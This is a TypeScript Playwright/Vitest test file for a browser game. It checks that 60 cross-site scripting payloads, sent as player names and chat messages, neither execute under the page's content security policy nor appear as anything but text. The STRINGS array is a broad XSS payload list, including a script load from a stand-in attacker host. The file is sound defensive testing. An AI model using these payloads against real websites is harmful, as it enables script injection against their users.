// Markup and scripts as names and as chat, in a real browser with the policy on: none runs, all show as text.
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Bot } from '../bench/bot.ts'
import { cleanChat, cleanName } from '../shared/text.ts'
import { whyNoBrowser } from './chromium.ts'
import { type PageServer, servePage } from './page-server.ts'
import { smallDefinition } from './small-universe.ts'

const noBrowser = whyNoBrowser()

/** Each calls pwned() if it runs. */
const STRINGS: readonly string[] = [
  '<script>pwned()</script>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script>setTimeout("pwned()")</script>',
  '"><script>pwned()</script>',
  "'><script>pwned()</script>",
  '</p><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '<<script>pwned()//<</script>',
  '<script/x>pwned()</script>',
  '<script\x3etype="text/javascript">pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()"/>',
  '<IMG SRC=x ONERROR=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=`x`onerror=pwned()>',
  '"><img src=x onerror=pwned()>',
  '<image src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
  '<math><mi xlink:href="javascript:pwned()">x</mi></math>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe onload=pwned()></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<textarea autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<marquee onstart=pwned()>x</marquee>',
  '<a href="javascript:pwned()">click</a>',
  '<a href="data:text/html,<script>opener.pwned()</script>">x</a>',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<button formaction="javascript:pwned()">x</button>',
  '<link rel=stylesheet href="javascript:pwned()">',
  '<style>@import "javascript:pwned()";</style>',
  '<style>*{background:url(javascript:pwned())}</style>',
  '<div style="background:url(javascript:pwned())">x</div>',
  '<meta http-equiv=refresh content="0;javascript:pwned()">',
  '<base href="javascript:pwned()//">',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<x onclick=pwned() tabindex=1 id=x autofocus onfocus=pwned()>x</x>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '%3Cscript%3Epwned()%3C/script%3E',
  'javascript:pwned()',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that templates would run
  '${pwned()}',
  '<!--<img src="--><img src=x onerror=pwned()//">',
]

declare global {
  interface Window {
    runs?: string[]
  }
}

let host: PageServer
const bots: Bot[] = []

beforeAll(async () => {
  if (noBrowser === null) host = await servePage(smallDefinition({}, 1, 'one'))
}, 120_000)

afterAll(async () => {
  for (const bot of bots) bot.stop()
  await host?.close()
})

/** A name of 20 characters at most: as much of the string as fits. */
const nameOf = (text: string) => cleanName([...text].slice(0, 20).join(''))!

/** Somebody called so comes, and says it all. */
function say(text: string, n: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const bot = new Bot({
      url: `${host.url.replace('http', 'ws')}/socket`,
      universe: 'one',
      name: nameOf(text),
      seed: n,
      idle: true,
      listener: {
        welcomed: () => bot.visit.send({ type: 'chat', text }),
        chatted: (_from, heard) => heard === cleanChat(text) && resolve(),
        refused: (_code, reason) => reject(new Error(`${text}: ${reason}`)),
      },
    })
    bots.push(bot)
  })
}

/** In the page: notes whatever runs, and whatever the policy had to stop. */
function watch(): void {
  window.runs = []
  Object.assign(window, { pwned: () => window.runs!.push('ran') })
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, sourceFile }) => {
    window.runs!.push(`stopped: ${violatedDirective} ${sourceFile}`)
  })
}

/** In the page: all lines of the chat, and elements in it that are not of its own making. */
function read(): { lines: string[]; strangers: string[] } {
  const log = document.querySelector('.chat-log')!
  const strangers = [...document.querySelectorAll('.voyage *')]
    .map(({ tagName }) => tagName)
    .filter((tag) =>
      /^(script|img|image|iframe|object|embed|link|style|meta|base|template|video|a)$/i.test(tag),
    )
  const lines = [...log.querySelectorAll('p')].map((line) =>
    [...line.children].map(({ textContent }) => textContent).join('\t'),
  )
  return { lines, strangers }
}

async function openPage(faults: string[]): Promise<Page> {
  const page = await host.browser.newPage({ viewport: { width: 1280, height: 720 } })
  page.on('dialog', (dialog) => {
    faults.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => faults.push(error.message))
  await page.addInitScript(watch)
  const answer = await page.goto(`${host.url}/?universe=one&role=spectator&join=1&renderer=canvas`)
  expect(answer!.headers()['content-security-policy']).toContain("script-src 'self'")
  await page.waitForSelector('canvas.field')
  return page
}

describe.skipIf(noBrowser !== null)('markup in a browser', () => {
  it(`${STRINGS.length} strings as names and chat: none runs, all show as text`, async () => {
    const faults: string[] = []
    const page = await openPage(faults)
    await page.keyboard.press('t')
    await page.waitForSelector('.chat.open')
    let shown = 0
    // Few enough at a time for the log to hold them all.
    for (let from = 0; from < STRINGS.length; from += 15) {
      const some = STRINGS.slice(from, from + 15)
      await Promise.all(some.map((text, n) => say(text, from + n)))
      for (const text of some) {
        const line = `${nameOf(text)}\t${cleanChat(text)}`
        await expect.poll(async () => (await page.evaluate(read)).lines, { timeout: 5000 }).toContain(line)
        shown++
      }
      expect((await page.evaluate(read)).strangers).toEqual([])
    }
    const runs = await page.evaluate(() => window.runs)
    console.info(`markup: ${shown} of ${STRINGS.length} shown as text, ${runs!.length} ran or were stopped`)
    expect(runs).toEqual([])
    expect(faults).toEqual([])
    expect(STRINGS.length).toBe(60)
  }, 60_000)
})
